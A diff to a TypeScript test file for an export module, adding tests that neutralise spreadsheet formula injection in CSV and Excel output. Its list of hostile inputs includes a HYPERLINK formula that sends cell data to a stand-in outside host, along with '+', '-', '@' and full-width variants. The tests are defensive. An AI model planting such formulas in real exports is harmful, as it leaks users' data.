@@ -1,8 +1,11 @@
-// The export writer's dates: WIB wall-clock in CSV as DD/MM/YYYY [HH.mm], in Excel as real dates.
+// The export writer's dates: WIB wall-clock in CSV as DD/MM/YYYY [HH.mm], in Excel as real dates;
+// and its cells: no text runs as a formula, numbers stay numbers (issue #30).
 
 import { PassThrough } from 'node:stream';
+import { parse } from 'csv-parse/sync';
 import ExcelJS from 'exceljs';
 import { describe, expect, it } from 'vitest';
+import { diawaliRumus, netral, selAman } from './formula.js';
 import { type ExportColumn, formatCsvDate, wallClock, writeCsv, writeXlsx } from './sheet.js';
 
 interface Row {
@@ -22,6 +25,10 @@ const ROWS: Row[] = [
 
 async function* batches() {
   yield ROWS;
+}
+
+async function* of<T>(rows: T[]) {
+  yield rows;
 }
 
 async function collect(produce: (out: PassThrough) => Promise<void>): Promise<Buffer> {
@@ -63,5 +70,72 @@ describe('export sheet', () => {
     expect(row?.getCell(3).value).toEqual(new Date('2024-09-05T21:21:00Z'));
     expect(row?.getCell(3).numFmt).toBe('dd/mm/yyyy hh:mm');
     expect(workbook.worksheets[0]?.getRow(3).getCell(3).value).toBeNull();
+  });
+});
+
+describe('formula text in exports (issue #30)', () => {
+  const HOSTILE = [
+    '=HYPERLINK("https://contoh.id/?d="&A1,"Lihat")',
+    '+62 812',
+    '-2+3',
+    '@SUM(1)',
+    '\t=1+1',
+    '\r=1+1',
+    '＝1+1',
+    '＋1',
+    '－1',
+    '＠SUM(1)',
+  ];
+
+  it('prefixes a single quote to text a spreadsheet would run, and to nothing else', () => {
+    for (const text of HOSTILE) {
+      expect(diawaliRumus(text), text).toBe(true);
+      expect(netral(text)).toBe(`'${text}`);
+    }
+    for (const text of ['Siti', '3171012505990001', ' =1', "'=1", 'a=b', '']) expect(netral(text)).toBe(text);
+    expect(selAman(-5)).toBe(-5);
+    expect(selAman(null)).toBeNull();
+  });
+
+  interface Baris {
+    teks: string;
+    angka: number;
+  }
+  const columns: ExportColumn<Baris>[] = [
+    { header: 'Teks', width: 10, value: (row) => row.teks },
+    { header: 'Angka', width: 10, value: (row) => row.angka },
+  ];
+  const rows: Baris[] = HOSTILE.map((teks, i) => ({ teks, angka: -(i + 1) }));
+
+  it('writes CSV whose cells are the text quoted, and negative numbers as numbers', async () => {
+    const text = (await collect((out) => writeCsv(out, columns, of(rows)))).toString('utf8');
+    const records = parse(text, { bom: true, delimiter: ';', columns: true, relax_quotes: true }) as Record<
+      string,
+      string
+    >[];
+    expect(records.map((r) => r.Teks)).toEqual(HOSTILE.map((t) => `'${t}`));
+    expect(records.map((r) => r.Angka)).toEqual(rows.map((r) => String(r.angka)));
+  });
+
+  it('quotes a CSV cell holding a comma, so a reader splitting on commas does not start a cell mid-text', async () => {
+    const text = (await collect((out) => writeCsv(out, columns, of([{ teks: 'Budi,=1+1', angka: 1 }])))).toString(
+      'utf8',
+    );
+    expect(text.split('\r\n')[1]).toBe('"Budi,=1+1";1');
+  });
+
+  it('writes Excel cells as text with the quote, never as formulas; numbers as numbers', async () => {
+    const file = await collect((out) => writeXlsx(out, columns, of(rows), 'Uji'));
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(file as unknown as ArrayBuffer);
+    const sheet = workbook.worksheets[0] as ExcelJS.Worksheet;
+    HOSTILE.forEach((text, i) => {
+      const row = sheet.getRow(i + 2);
+      expect(row.getCell(1).type).toBe(ExcelJS.ValueType.String);
+      // XML reads a carriage return back as a line feed.
+      expect(row.getCell(1).value).toBe(`'${text}`.replace('\r', '\n'));
+      expect(row.getCell(2).type).toBe(ExcelJS.ValueType.Number);
+      expect(row.getCell(2).value).toBe(-(i + 1));
+    });
   });
 });
